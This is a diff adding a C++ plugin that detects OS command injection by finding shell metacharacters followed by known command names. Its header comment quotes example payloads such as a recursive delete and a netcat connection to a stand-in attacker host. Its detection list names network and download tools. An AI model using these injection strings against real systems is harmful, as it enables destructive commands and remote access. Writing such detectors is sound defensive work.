@@ -1,0 +1,90 @@
+// OS command injection plugin. Quick filter on shell metacharacters; deep
+// validation confirms a known command name in command position after a
+// metacharacter (the pattern of "; rm -rf /", "| nc attacker 4444",
+// "`wget x`", "$(curl x)").
+#include <array>
+#include <cctype>
+
+#include "common/string_util.h"
+#include "septic/plugins/plugin.h"
+
+namespace septic::core {
+
+namespace {
+
+constexpr std::array<std::string_view, 30> kShellCommands = {
+    "cat",   "ls",     "rm",    "mv",    "cp",     "wget",  "curl",
+    "nc",    "netcat", "bash",  "sh",    "zsh",    "ping",  "whoami",
+    "id",    "uname",  "chmod", "chown", "kill",   "touch", "echo",
+    "python","perl",   "ruby",  "php",   "telnet", "scp",   "find",
+    "mail",  "sleep",
+};
+
+bool is_command_word(std::string_view word) {
+  for (std::string_view cmd : kShellCommands) {
+    if (word == cmd) return true;
+  }
+  // Path-prefixed commands: /bin/sh, /usr/bin/wget.
+  if (!word.empty() && word[0] == '/') {
+    size_t slash = word.rfind('/');
+    return is_command_word(word.substr(slash + 1));
+  }
+  return false;
+}
+
+class OsciPlugin final : public StoredInjectionPlugin {
+ public:
+  std::string_view name() const override { return "OSCI"; }
+
+  bool quick_check(std::string_view input) const override {
+    for (size_t i = 0; i < input.size(); ++i) {
+      char c = input[i];
+      if (c == ';' || c == '|' || c == '`' || c == '&') return true;
+      if (c == '$' && i + 1 < input.size() && input[i + 1] == '(') return true;
+      if (c == '\n') return true;  // newline separates shell commands
+    }
+    return false;
+  }
+
+  std::optional<std::string> deep_check(std::string_view input) const override {
+    std::string lower = common::to_lower(input);
+    // Find each metacharacter; check whether a shell command follows.
+    for (size_t i = 0; i < lower.size(); ++i) {
+      char c = lower[i];
+      bool meta = c == ';' || c == '|' || c == '`' || c == '\n' ||
+                  (c == '&' && i + 1 < lower.size() && lower[i + 1] == '&') ||
+                  (c == '$' && i + 1 < lower.size() && lower[i + 1] == '(');
+      if (!meta) continue;
+      size_t j = i + 1;
+      if (c == '$' || (c == '&' && j < lower.size() && lower[j] == '&') ||
+          (c == '|' && j < lower.size() && lower[j] == '|')) {
+        ++j;  // skip second char of $(, &&, ||
+      }
+      while (j < lower.size() &&
+             std::isspace(static_cast<unsigned char>(lower[j]))) {
+        ++j;
+      }
+      size_t start = j;
+      while (j < lower.size() &&
+             (std::isalnum(static_cast<unsigned char>(lower[j])) ||
+              lower[j] == '/' || lower[j] == '_' || lower[j] == '.' ||
+              lower[j] == '-')) {
+        ++j;
+      }
+      std::string_view word = std::string_view(lower).substr(start, j - start);
+      if (is_command_word(word)) {
+        return "shell command '" + std::string(word) +
+               "' after metacharacter '" + std::string(1, c) + "'";
+      }
+    }
+    return std::nullopt;
+  }
+};
+
+}  // namespace
+
+std::unique_ptr<StoredInjectionPlugin> make_osci_plugin() {
+  return std::make_unique<OsciPlugin>();
+}
+
+}  // namespace septic::core
